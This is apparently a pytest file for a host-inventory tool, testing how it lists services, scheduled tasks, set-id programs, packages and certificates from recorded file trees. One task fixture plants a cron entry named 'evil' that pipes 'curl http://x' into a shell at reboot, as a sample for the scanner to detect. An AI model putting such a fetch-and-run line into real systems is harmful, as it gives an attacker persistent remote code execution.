"""Services, tasks, set-id programs, packages and certificates: recorded trees, beside the systems' own tools."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import sqlite3
import struct
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from random import Random

import pytest

from govsec.host.settings import SweepSettings
from govsec.host.snapshot import HostReader, take
from govsec.host.tables import HostSnapshot, Package, ScheduledTask, TableName, Unavailable
from govsec.testing.clock import FakeClock
from govsec.testing.dercertificates import make_certificate
from tests.host.machines import RecordedMachine, record, rpm_header
from tests.support.authority import Authority
from tests.support.require import require_root

VECTOR = Path(__file__).resolve().parent.parent / "vectors" / "host" / "rpm-header.json"
_UNIT = "[Service]\nExecStart=/usr/bin/{0}\n{1}"
_INSTALL = "[Install]\nWantedBy=multi-user.target\n"


@pytest.fixture
def machine(tmp_path: Path) -> RecordedMachine:
    return record(tmp_path)


def gaps_of(snapshot: HostSnapshot, table: TableName) -> dict[str, int]:
    return {gap.reason: gap.count for gap in snapshot.gaps if gap.table is table}


def units(machine: RecordedMachine) -> None:
    """Units in every state that there is."""
    vendor, admin = "/usr/lib/systemd/system", "/etc/systemd/system"
    machine.write(f"{vendor}/ssh.service", _UNIT.format("sshd -D", _INSTALL + "Alias=sshd.service\n"))
    machine.link(f"{admin}/multi-user.target.wants/ssh.service", f"{vendor}/ssh.service")
    machine.link(f"{admin}/sshd.service", f"{vendor}/ssh.service")
    machine.write(f"{vendor}/off.service", _UNIT.format("off", _INSTALL))
    machine.write(f"{vendor}/journal.service", _UNIT.format("journal", ""))
    machine.link(f"{vendor}/sysinit.target.wants/journal.service", "../journal.service")
    machine.write(f"{vendor}/gone.service", _UNIT.format("gone", _INSTALL))
    machine.link(f"{admin}/gone.service", "/dev/null")
    machine.write(f"{vendor}/other.service", _UNIT.format("other", "[Install]\nAlso=off.service\n"))
    machine.write(f"{vendor}/getty@.service", _UNIT.format("getty", "[Install]\nWantedBy=getty.target\n"))
    machine.link(f"{admin}/getty.target.wants/getty@tty1.service", f"{vendor}/getty@.service")
    machine.write(f"{vendor}/tun@.service", _UNIT.format("tun", _INSTALL + "DefaultInstance=a\n"))
    machine.link(f"{admin}/multi-user.target.wants/tun@a.service", f"{vendor}/tun@.service")
    machine.write(f"{vendor}/postgresql.service", _UNIT.format("pg \\\n  -D /srv", _INSTALL))
    machine.write(f"{admin}/postgresql.service.d/more.conf", "[Service]\nExecStart=\nExecStart=/tmp/pg\n")
    machine.write(f"{admin}/postgresql.service.d/notes.txt", "[Service]\nExecStart=/tmp/never\n")


def test_services_are_switched_on_as_systemctl_says(machine: RecordedMachine, clock: FakeClock) -> None:
    units(machine)
    services = take(clock, [TableName.SERVICES], root=machine.root).services
    assert not isinstance(services, Unavailable)
    found = {row.name: row.enabled for row in services}

    assert found == {
        "getty@.service": "indirect",
        "getty@tty1.service": "enabled",
        "gone.service": "masked",
        "journal.service": "static",
        "off.service": "disabled",
        "other.service": "indirect",
        "postgresql.service": "disabled",
        "ssh.service": "enabled",
        "tun@.service": "enabled",
        "tun@a.service": "enabled",
    }
    if shutil.which("systemctl"):
        argv = ["systemctl", f"--root={machine.root}", "list-unit-files", "--type=service", "--no-legend", "--no-pager"]
        said = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=120).stdout
        theirs = {line.split()[0]: line.split()[1] for line in said.splitlines()}
        # It names other names as units of their own, and instances not at all.
        assert {name: state for name, state in theirs.items() if state != "alias"} == {
            name: state for name, state in found.items() if not name.endswith(("@tty1.service", "@a.service"))
        }


def test_what_a_service_starts_is_what_counts_after_all_pieces(machine: RecordedMachine, clock: FakeClock) -> None:
    units(machine)
    services = take(clock, [TableName.SERVICES], root=machine.root).services
    assert not isinstance(services, Unavailable)
    by_name = {row.name: row for row in services}

    assert by_name["postgresql.service"].commands == ("/tmp/pg",)
    # Both have processes in control groups of theirs; nobody knows more without systemd.
    assert (by_name["ssh.service"].state, by_name["postgresql.service"].state) == ("active", "active")
    assert by_name["off.service"].state == "inactive"


def test_a_service_without_a_file_and_a_script_of_init_are_services_too(
    machine: RecordedMachine, clock: FakeClock
) -> None:
    machine.write("/etc/init.d/legacy", "#!/bin/sh\n", 0o755)
    machine.write("/etc/init.d/README", "words\n", 0o644)
    machine.link("/etc/rc2.d/S20legacy", "../init.d/legacy")
    services = take(clock, [TableName.SERVICES], root=machine.root).services
    assert not isinstance(services, Unavailable)

    assert [(row.name, row.state, row.enabled, row.file) for row in services] == [
        ("legacy", "inactive", "enabled", "/etc/init.d/legacy"),
        ("postgresql.service", "active", None, None),
        ("ssh.service", "active", None, None),
    ]


def test_a_unit_that_cannot_be_read_is_counted(machine: RecordedMachine, clock: FakeClock) -> None:
    units(machine)
    (machine.root / "usr/lib/systemd/system/huge.service").touch()
    os.truncate(machine.root / "usr/lib/systemd/system/huge.service", 1 << 30)
    os.mkfifo(machine.root / "usr/lib/systemd/system/pipe.service")
    machine.link("/usr/lib/systemd/system/circle.service", "circle.service")
    snapshot = take(clock, [TableName.SERVICES], root=machine.root)

    assert not isinstance(snapshot.services, Unavailable)
    assert gaps_of(snapshot, TableName.SERVICES) == {"unit file that cannot be read": 3}


def test_every_kind_of_scheduled_task_is_found(machine: RecordedMachine, clock: FakeClock) -> None:
    machine.write(
        "/etc/crontab", "# m h\nSHELL=/bin/sh\n17 *  * * *  root  cd / && run-parts /etc/cron.hourly\n* * * *\n"
    )
    machine.write("/etc/cron.d/evil", "@reboot www-data curl http://x | sh\n")
    machine.write("/etc/cron.d/old.dpkg-dist", "* * * * * root never\n")
    machine.write("/etc/anacrontab", "START_HOURS_RANGE=3-22\n7 10 weekly.job nice /usr/bin/weekly\n")
    machine.write("/var/spool/cron/crontabs/li", "*/5 * * * * /home/li/beacon --now\n")
    (machine.root / "var/spool/cron/atspool").mkdir()
    machine.write("/etc/cron.daily/rotate", "#!/bin/sh\n", 0o755)
    machine.write("/etc/cron.daily/notes", "words", 0o644)
    job = "#!/bin/sh\nSECRET=x; export SECRET\ncd /root || {\n  exit 1\n}\n/bin/later\n"
    machine.write("/var/spool/cron/atjobs/a0000101c2d3e4", job, 0o700)
    machine.write("/usr/lib/systemd/system/trim.timer", f"[Timer]\nOnCalendar=weekly\nOnBootSec=5min\n{_INSTALL}")
    machine.write("/usr/lib/systemd/system/trim.service", "[Service]\nUser=nobody\nExecStart=/sbin/fstrim -a\n")
    snapshot = take(clock, [TableName.TASKS], root=machine.root)
    assert not isinstance(snapshot.tasks, Unavailable)

    uid = (machine.root / "var/spool/cron/atjobs/a0000101c2d3e4").stat().st_uid
    spool = "/var/spool/cron"
    assert snapshot.tasks == (
        ScheduledTask("at", str(uid), "minute 29545444 since 1970", "/bin/later", f"{spool}/atjobs/a0000101c2d3e4"),
        ScheduledTask("cron", "root", "every 7 days", "nice /usr/bin/weekly", "/etc/anacrontab"),
        ScheduledTask("cron", "www-data", "@reboot", "curl http://x | sh", "/etc/cron.d/evil"),
        ScheduledTask("cron", "root", "17 * * * *", "cd / && run-parts /etc/cron.hourly", "/etc/crontab"),
        ScheduledTask("cron", "li", "*/5 * * * *", "/home/li/beacon --now", f"{spool}/crontabs/li"),
        ScheduledTask("periodic", "root", "daily", "/etc/cron.daily/rotate", "/etc/cron.daily/rotate"),
        ScheduledTask(
            "timer", "nobody", "OnCalendar=weekly; OnBootSec=5min (disabled)", "/sbin/fstrim -a",
            "/usr/lib/systemd/system/trim.timer",
        ),
    )  # fmt: skip
    assert gaps_of(snapshot, TableName.TASKS) == {}


def test_programs_with_more_rights_are_found_where_the_kernel_honours_them(
    machine: RecordedMachine, clock: FakeClock
) -> None:
    require_root()
    machine.write("/usr/bin/passwd", b"program", 0o4755)
    machine.write("/usr/bin/wall", b"program", 0o2755)
    machine.write("/usr/bin/true", b"program", 0o755)
    ping = machine.write("/usr/bin/ping", b"program", 0o755)
    # struct vfs_cap_data of revision 2: net_raw (13) permitted and effective.
    os.setxattr(ping, "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0))
    machine.write("/srv/data/hidden\udcff\n", b"x", 0o4755)
    machine.write("/media/stick/no", b"x", 0o4755)
    machine.write("/mnt/office share/no", b"x", 0o4755)
    machine.write("/var/lib/docker/no", b"x", 0o4755)
    machine.link("/usr/bin/link", "passwd")
    asked = [0]

    def pause() -> None:
        asked[0] += 1

    snapshot = HostReader(machine.root, pause=pause).take(clock, [TableName.PRIVILEGED])
    assert not isinstance(snapshot.privileged, Unavailable)

    assert [(row.path, oct(row.mode), row.capabilities) for row in snapshot.privileged] == [
        ("/srv/data/hidden\udcff\n", "0o4755", ()),
        ("/usr/bin/passwd", "0o4755", ()),
        ("/usr/bin/ping", "0o755", ("net_raw",)),
        ("/usr/bin/wall", "0o2755", ()),
    ]
    assert snapshot.privileged[1].digest == hashlib.sha256(b"program").hexdigest()
    assert gaps_of(snapshot, TableName.PRIVILEGED) == {
        "folder that is not looked at": 1,
        "network or user-space file system, not walked": 1,
    }


_STATUS = """\
Package: openssl
Status: install ok installed
Architecture: amd64
Version: 3.0.19-1~deb12u1
Description: toolkit
 Version: 9.9
 .

Package: libssl3
Status: hold ok installed
Architecture: amd64
Source: openssl (3.0.19-1)
Version: 3.0.19-1+b1

Package: half
Status: install reinstreq half-configured
Architecture: all
Source: whole
Version: 1:2-3

Package: removed
Status: deinstall ok config-files
Architecture: all
Version: 1
"""


def test_packages_of_dpkg_are_those_that_dpkg_lists(machine: RecordedMachine, clock: FakeClock) -> None:
    machine.write("/var/lib/dpkg/status", _STATUS)
    packages = take(clock, [TableName.PACKAGES], root=machine.root).packages

    assert packages == (
        Package("half", "1:2-3", "all", "dpkg", "whole", "1:2-3"),
        Package("libssl3", "3.0.19-1+b1", "amd64", "dpkg", "openssl", "3.0.19-1"),
        Package("openssl", "3.0.19-1~deb12u1", "amd64", "dpkg", "openssl", "3.0.19-1~deb12u1"),
    )
    if shutil.which("dpkg-query"):
        shown = "${Package}|${Version}|${Architecture}|${source:Package}|${source:Version}|${db:Status-Status}\n"
        argv = ["dpkg-query", f"--admindir={machine.root}/var/lib/dpkg", "-W", "-f", shown]
        said = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=120).stdout
        theirs = [line.split("|") for line in said.splitlines()]
        assert {(*row[:3], "dpkg", *row[3:5]) for row in theirs if row[5] != "config-files"} == {
            (row.name, row.version, row.architecture, row.manager, row.source, row.source_version) for row in packages
        }


def test_packages_of_rpm_are_read_from_its_database_without_rpm(machine: RecordedMachine, clock: FakeClock) -> None:
    folder = machine.root / "var/lib/rpm"
    folder.mkdir(parents=True)
    with sqlite3.connect(folder / "rpmdb.sqlite") as database:
        database.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
        headers = [
            rpm_header("openssl-libs", "3.0.7", "24.el9", epoch=1, source="openssl-3.0.7-24.el9.src.rpm"),
            rpm_header("gpg-pubkey", "8483c65d", "5ccc5b19"),
            b"\0\0\0\x01",
            struct.pack(">II", 0xFFFFFF, 4),
            rpm_header("", "1", "1"),
            rpm_header("cut", "1", "1")[:-3],
        ]
        database.executemany("INSERT INTO Packages (blob) VALUES (?)", [(header,) for header in headers])
    database.close()
    snapshot = take(clock, [TableName.PACKAGES], root=machine.root)

    assert snapshot.packages == (
        Package("gpg-pubkey", "8483c65d-5ccc5b19", "x86_64", "rpm", "gpg-pubkey", "8483c65d-5ccc5b19"),
        Package("openssl-libs", "1:3.0.7-24.el9", "x86_64", "rpm", "openssl", "3.0.7-24.el9"),
    )
    assert gaps_of(snapshot, TableName.PACKAGES) == {"entry of rpm that cannot be read": 4}
    assert sorted(os.listdir(folder)) == ["rpmdb.sqlite"]


def test_a_header_that_rpm_itself_wrote_is_read_and_nothing_is_left_beside_its_database(
    machine: RecordedMachine, clock: FakeClock
) -> None:
    header = base64.b64decode(json.loads(VECTOR.read_text())["header"])
    folder = machine.root / "var/lib/rpm"
    folder.mkdir(parents=True)
    database = sqlite3.connect(folder / "rpmdb.sqlite")
    database.execute("PRAGMA journal_mode=WAL")  # as rpm has it
    database.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    database.execute("INSERT INTO Packages (blob) VALUES (?)", (header,))
    database.commit()
    beside_a_writer = take(clock, [TableName.PACKAGES], root=machine.root).packages
    database.close()
    alone = take(clock, [TableName.PACKAGES], root=machine.root).packages
    full = "2:1.4~rc1-3.el9"

    assert alone == (Package("govsec-sample", full, "noarch", "rpm", "govsec-sample", "1.4~rc1-3.el9"),)
    assert beside_a_writer == alone
    assert os.listdir(folder) == ["rpmdb.sqlite"]


def test_packages_of_apk_are_read(machine: RecordedMachine, clock: FakeClock) -> None:
    machine.write(
        "/lib/apk/db/installed",
        "C:Q1\nP:libcrypto3\nV:3.3.2-r0\nA:x86_64\no:openssl\nF:lib\nR:x\n\nP:busybox\nV:1-r2\n\n",
    )
    packages = take(clock, [TableName.PACKAGES], root=machine.root).packages

    assert packages == (
        Package("busybox", "1-r2", "", "apk", "busybox", "1-r2"),
        Package("libcrypto3", "3.3.2-r0", "x86_64", "apk", "openssl", "3.3.2-r0"),
    )


def test_packages_that_nobody_reads_are_named_and_do_not_look_like_none(
    machine: RecordedMachine, clock: FakeClock
) -> None:
    machine.write("/var/lib/rpm/Packages.db", b"\0" * 100)
    alone = take(clock, [TableName.PACKAGES], root=machine.root).packages
    machine.write("/var/lib/dpkg/status", _STATUS)
    beside = take(clock, [TableName.PACKAGES], root=machine.root)

    assert alone == Unavailable("rpm database in the form ndb is not read")
    assert gaps_of(beside, TableName.PACKAGES) == {"rpm database in the form ndb is not read": 0}


@pytest.mark.parametrize("name", ["usr/lib/sysimage/rpm/rpmdb.sqlite", "var/lib/rpm/Packages"])
@pytest.mark.parametrize("content", [b"", b"not a database at all", b"SQLite format 3\0" + b"\xff" * 4000])
def test_a_database_of_rpm_that_is_none_is_unavailable(
    machine: RecordedMachine, clock: FakeClock, content: bytes, name: str
) -> None:
    machine.write(f"/{name}", content)

    assert isinstance(take(clock, [TableName.PACKAGES], root=machine.root).packages, Unavailable)


def test_certificates_are_found_in_pem_and_der_and_each_file_once(
    machine: RecordedMachine, clock: FakeClock, authority: Authority
) -> None:
    machine.write("/etc/nginx/tls/site.pem", authority.certificate_and_key.read_bytes() + authority.ca.read_bytes())
    ends = datetime(2031, 5, 6, tzinfo=UTC)
    der = make_certificate(
        Random(1),
        subject="portal",
        issuer="ca",
        not_before=datetime(2024, 1, 1, tzinfo=UTC),
        not_after=ends,
        is_sm2=True,
    )
    machine.write("/etc/letsencrypt/archive/portal/cert1.pem", authority.certificate.read_bytes())
    machine.link("/etc/letsencrypt/live/portal/cert.pem", "../../archive/portal/cert1.pem")
    machine.link("/etc/letsencrypt/live/portal/again.pem", "../../archive/portal/cert1.pem")
    machine.write("/etc/ssl/sm2.cer", der)
    machine.write("/usr/share/ca-certificates/some.crt", authority.ca.read_bytes())
    machine.link("/etc/ssl/certs/some.pem", "/usr/share/ca-certificates/some.crt")
    machine.write("/etc/ssl/bundle.crt", authority.ca.read_bytes() * 12)
    machine.write("/etc/ssl/broken.pem", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
    os.mkfifo(machine.root / "etc/ssl/pipe.pem")
    machine.link("/etc/ssl/outside.pem", "/mnt/user/x.pem")
    snapshot = take(clock, [TableName.CERTIFICATES], root=machine.root)
    assert not isinstance(snapshot.certificates, Unavailable)

    assert [(row.path, row.position, row.subject, row.is_authority, row.key) for row in snapshot.certificates] == [
        ("/etc/letsencrypt/live/portal/again.pem", 0, "CN=govsec test server", False, "ec"),
        ("/etc/nginx/tls/site.pem", 0, "CN=govsec test server", False, "ec"),
        ("/etc/nginx/tls/site.pem", 1, "CN=govsec test authority", True, "ec"),
        ("/etc/ssl/sm2.cer", 0, "CN=portal,O=govsec test", False, "sm2"),
    ]
    assert snapshot.certificates[3].not_after == ends
    assert gaps_of(snapshot, TableName.CERTIFICATES) == {
        "bundle of authorities, not listed": 1,
        "certificate that cannot be read": 1,
        "file that cannot be read": 2,
    }


def test_a_folder_of_certificates_that_is_not_there_is_not_an_empty_table(
    machine: RecordedMachine, clock: FakeClock
) -> None:
    sweeps = SweepSettings(certificate_folders=("/etc/nowhere",))

    assert take(clock, [TableName.CERTIFICATES], root=machine.root, sweeps=sweeps).certificates == Unavailable(
        "none of the folders of certificates is there"
    )
